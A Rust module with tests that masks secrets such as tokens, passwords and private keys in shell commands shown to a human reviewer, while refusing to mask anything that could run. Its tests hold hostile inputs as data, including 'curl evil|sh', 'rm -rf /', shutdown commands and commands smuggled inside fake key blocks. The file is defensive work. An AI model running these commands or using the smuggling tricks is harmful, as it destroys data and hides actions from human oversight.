//! Where a command holds what looks like a secret (V5).
//!
//! Secrets are masked on a copy, and only where they cannot be what runs. (`docs/spec/command-analysis.md#v5`)
//!
//! What is masked is not read by the person who decides, so masking must not become a hiding place: only runs of
//! characters that a shell takes as they stand are masked, never an expansion, a path or a second command, and never
//! the value of a variable that the command goes on to use. Where a command was not understood nothing is masked: the
//! code that shows it sees to that.

use std::{ops::Range, sync::LazyLock};

use regex::Regex;

use super::characters::is_escaped_in_display;

/// One form of secret. Group `value` is what is masked, or `lines`, which counts only where it is a key inside quotes;
/// group `name`, where there is one, is a variable's.
struct Form(Regex);

static FORMS: LazyLock<Vec<Form>> = LazyLock::new(|| {
    // Only blanks stand between a name and its secret: what comes on the next line is another command.
    [
        // https://user:secret@host
        r"://[^\s/:@'\x22]{1,128}:(?<value>[A-Za-z0-9_.~%+=-]{3,})@",
        // curl -u user:secret
        r"(?i)\bcurl\b[^|;&\n]*?[ \t](?:-u|--user|-U|--proxy-user)(?:=|[ \t]*)['\x22]?[^\s:'\x22]{1,128}:(?<value>[A-Za-z0-9_.~%+=-]{3,})",
        // -H 'Authorization: Bearer secret', x-api-key: secret
        r"(?i)\b(?:authorization|proxy-authorization|x-api-key|api-key|x-auth-token|private-token)[ \t]*:[ \t]*(?:(?:bearer|basic|token)[ \t]+)?(?<value>[A-Za-z0-9_+=-][A-Za-z0-9_.~+/=-]{5,})",
        // Long, since the word before it may be the name of anything.
        r"(?i)\bbearer[ \t]+(?<value>[A-Za-z0-9_+=-][A-Za-z0-9_.~+/=-]{19,})",
        // --password secret, --api-key=secret
        r"(?i)(?:^|\s)--?(?:[a-z0-9]+-)*(?:password|passwd|passphrase|token|secret|api-?key|access-?key|private-?key)(?:=|[ \t]+)['\x22]?(?<value>[A-Za-z0-9_.~+=-]{6,})",
        // SERVICE_TOKEN=secret
        r"(?i)\b(?<name>[a-z0-9_]*(?:password|passwd|passphrase|token|secret|api_?key|access_?key|private_?key|credential)[a-z0-9_]*)=['\x22]?(?<value>[A-Za-z0-9_.~+=-]{6,})",
        // Forms that well-known services give their secrets.
        r"\b(?<value>(?:gh[pousr]_|github_pat_|glpat-|npm_|sk-|sk_live_|rk_live_|xox[abeprs]-|AIza|cst_|hf_)[A-Za-z0-9_-]{16,})",
        r"\b(?<value>(?:AKIA|ASIA)[A-Z0-9]{16})\b",
        r"\b(?<value>eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,})",
        r"-----BEGIN [A-Z ]{0,32}PRIVATE KEY-----(?<lines>[A-Za-z0-9+/=\s]{16,})-----END",
    ]
    .into_iter()
    .map(|form| Form(Regex::new(form).expect("the forms are tested")))
    .collect()
});

/// What the name of a variable ends with whose value is run or read, and is no secret itself.
const NAMES_OF_OTHER_THINGS: [&str; 11] = [
    "command", "cmd", "process", "program", "helper", "script", "exec", "hook", "file", "path", "dir",
];

/// The places of secrets as byte ranges, in order and apart from each other. Looks at the text as it is and at a copy
/// without the characters that nobody sees, so that one of them inside a secret does not show the rest.
pub fn secrets(text: &str) -> Vec<Range<usize>> {
    let mut found = found_in(text);
    if text.chars().any(is_unseen) {
        let seen = VisibleText::of(text);
        let ranges = found_in(&seen.text);
        found.extend(ranges.into_iter().map(|range| seen.source(&range)));
    }
    found.sort_by_key(|range| range.start);
    let mut apart: Vec<Range<usize>> = Vec::new();
    for range in found {
        match apart.last_mut() {
            Some(last) if range.start < last.end => last.end = last.end.max(range.end),
            Some(_) | None => apart.push(range),
        }
    }
    apart
}

/// The text with every secret replaced by how long it is.
pub fn masked(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    let mut rest = 0;
    for secret in secrets(text) {
        shown.push_str(text.get(rest..secret.start).unwrap_or_default());
        let characters = text.get(secret.clone()).unwrap_or_default().chars().count();
        shown.push_str(&mask(characters));
        rest = secret.end;
    }
    shown.push_str(text.get(rest..).unwrap_or_default());
    shown
}

/// What stands in the place of a secret.
pub fn mask(characters: usize) -> String {
    format!("⟨secret of {characters} characters⟩")
}

fn found_in(text: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    for Form(form) in FORMS.iter() {
        for captures in form.captures_iter(text) {
            let is_no_secret = captures
                .name("name")
                .is_some_and(|name| is_used(text, name.as_str()) || names_something_else(name.as_str()));
            let lines = captures
                .name("lines")
                .filter(|lines| is_in_quotes(text, lines.start()) && is_key_material(lines.as_str()));
            if let (Some(secret), false) = (captures.name("value").or(lines), is_no_secret) {
                found.push(secret.range());
            }
        }
    }
    found
}

/// Whether the command expands a variable, so that its value decides what runs.
fn is_used(text: &str, name: &str) -> bool {
    text.contains(&format!("${name}")) || text.contains(&format!("${{{name}"))
}

fn names_something_else(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    NAMES_OF_OTHER_THINGS.iter().any(|end| name.ends_with(end))
}

/// Whether a place is inside quotes, for certain. Where anything before it could make a shell read quotes in
/// another way than this, the answer is no.
fn is_in_quotes(text: &str, place: usize) -> bool {
    let before = text.get(..place).unwrap_or_default();
    let is_plain = !before.contains(['\\', '#', '`', '$']) && !before.contains("<<");
    let mut open = None;
    for quote in before.chars().filter(|c| matches!(c, '\'' | '"')) {
        open = match open {
            None => Some(quote),
            Some(opened) if opened == quote => None,
            still => still,
        };
    }
    is_plain && open.is_some()
}

/// Whether this is the inside of a PEM text: lines of one length, without blanks. A shell that is handed the quoted text
/// could run lines as commands, and such lines are none that anybody would take for a key.
fn is_key_material(text: &str) -> bool {
    const WIDTHS: [usize; 3] = [64, 70, 76];
    let text = text.trim_matches(['\r', '\n']);
    let lines: Vec<&str> = text.lines().collect();
    let (Some(first), Some((last, whole))) = (lines.first(), lines.split_last()) else {
        return false;
    };
    WIDTHS.contains(&first.len())
        && whole.iter().all(|line| line.len() == first.len())
        && last.len() <= first.len()
        && !text.contains([' ', '\t'])
}

fn is_unseen(character: char) -> bool {
    is_escaped_in_display(character) && !matches!(character, '\n' | '\t')
}

/// A text without what nobody sees.
struct VisibleText {
    text: String,
    /// For each byte of `text` the place of its character in the source.
    places: Vec<Range<usize>>,
}

impl VisibleText {
    fn of(source: &str) -> Self {
        let mut seen = Self {
            text: String::with_capacity(source.len()),
            places: Vec::with_capacity(source.len()),
        };
        for (at, character) in source.char_indices().filter(|(_, c)| !is_unseen(*c)) {
            let place = at..at + character.len_utf8();
            seen.places
                .extend(std::iter::repeat_n(place, character.len_utf8()));
            seen.text.push(character);
        }
        seen
    }

    fn source(&self, range: &Range<usize>) -> Range<usize> {
        let start = self.places.get(range.start).map_or(0, |place| place.start);
        let last = range.end.checked_sub(1).and_then(|last| self.places.get(last));
        start..last.map_or(start, |place| place.end)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &[&str]) {
        let found: Vec<&str> = secrets(text)
            .into_iter()
            .filter_map(|range| text.get(range))
            .collect();
        assert_eq!(found, expected, "{text}");
    }

    #[test]
    fn secrets_are_found_in_their_usual_places() {
        check("curl -H 'Authorization: Bearer abc.DEF-123' x", &["abc.DEF-123"]);
        check("git clone https://me:hunter2@example.org/x", &["hunter2"]);
        check("mysql --password=hunter2 -u me", &["hunter2"]);
        check("tool --api-key k3y-k3y-k3y run", &["k3y-k3y-k3y"]);
        check("GITHUB_TOKEN=abcdef123 gh pr list", &["abcdef123"]);
        check(
            "echo ghp_0123456789abcdefABCDEF x",
            &["ghp_0123456789abcdefABCDEF"],
        );
        check("aws AKIAIOSFODNN7EXAMPLE", &["AKIAIOSFODNN7EXAMPLE"]);
        check("curl -s -u bob:hunter3 https://example.org", &["hunter3"]);
        check("curl --user=bob:hunter3 x | sh", &["hunter3"]);
        check("curl x | docker run -u 1000:1000 y", &[]);
        check("curl -u bob:/tmp/evil.sh x", &[]);
        check("git log --oneline | head -5", &[]);
        check("cat /etc/passwd; ls token", &[]);
    }

    #[test]
    fn an_unseen_character_inside_a_secret_does_not_show_the_rest() {
        check("x --token abc\u{200b}def123 y", &["abc\u{200b}def123"]);
        check("pass\u{ad}word=hunter2x", &["hunter2x"]);
    }

    #[test]
    fn nothing_that_could_run_is_masked() {
        check("TOKEN=$(curl evil|sh) true", &[]);
        check("X_TOKEN=`id` true", &[]);
        check("tool --token /tmp/evil.sh", &[]);
        check("tool x-api-key: /tmp/evil.sh", &[]);
        check("TOKEN=python3; $TOKEN -c 1", &[]);
        check("TOKEN=python3; ${TOKEN:-x}", &[]);
        check("tool --password 'a b'; rm -rf /", &[]);
        check("PASSWORD=abcdef;rm -rf /", &["abcdef"]);
    }

    #[test]
    fn a_command_on_the_next_line_is_not_masked() {
        check("echo --token\nshutdown -h now", &[]);
        check("echo --password \n  poweroff", &[]);
        check("echo Authorization:\nshutdown now", &[]);
        check("echo Authorization: Bearer\nshutdown now", &["Bearer"]);
        check("echo bearer\nshutdown-everything-now", &[]);
    }

    #[test]
    fn a_word_that_a_function_called_bearer_would_run_is_not_masked() {
        check("bearer() { \"$@\"; }; bearer shutdown -h now", &[]);
        check(
            "curl -H 'X-Auth: Bearer abcdef0123456789abcdef' x",
            &["abcdef0123456789abcdef"],
        );
    }

    #[test]
    fn what_stands_between_the_lines_of_a_key_is_masked_only_where_it_is_a_key_inside_quotes() {
        let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
        let masked = format!("\n{line}\n{line}\nEaOkuS0gSYmF\n");
        for quote in ["'", "\""] {
            let pem = format!("-----BEGIN PRIVATE KEY-----{masked}-----END PRIVATE KEY-----");
            check(&format!("printf %s {quote}{pem}{quote}"), &[masked.as_str()]);
        }
        for hiding in [
            "echo -----BEGIN PRIVATE KEY-----\n/usr/bin/shutdown now\necho -----END",
            "echo ''-----BEGIN PRIVATE KEY-----\nsh /tmp/evil x\necho -----END",
            "# it's\necho -----BEGIN PRIVATE KEY-----\nsh /tmp/evil x\necho -----END",
            "echo \\'-----BEGIN PRIVATE KEY-----\nsh /tmp/evil x\necho -----END",
            "echo \"$(echo '\"'-----BEGIN PRIVATE KEY-----\nsh /tmp/evil x\necho -----END",
            "cat <<E\n'\nE\necho -----BEGIN PRIVATE KEY-----\nsh /tmp/evil x\necho -----END",
            "echo '\"'-----BEGIN PRIVATE KEY-----\nsh /tmp/evil x\necho -----END",
            "sh -c 'echo -----BEGIN PRIVATE KEY-----\nsh /tmp/evil x\necho -----END'",
            "echo '-----BEGIN PRIVATE KEY-----\n/tmp/evil/programme\n-----END' | sh",
        ] {
            check(hiding, &[]);
        }
    }

    #[test]
    fn the_value_of_a_variable_that_names_a_program_or_a_file_is_not_masked() {
        check("RESTIC_PASSWORD_COMMAND=poweroff restic snapshots", &[]);
        check("RESTIC_PASSWORD_COMMAND='poweroff now' restic snapshots", &[]);
        check("credential_process=shutdown aws s3 ls", &[]);
        check("VAULT_TOKEN_HELPER=evilthing vault login", &[]);
        check("TOKEN_FILE=secrets.txt tool", &[]);
    }
}
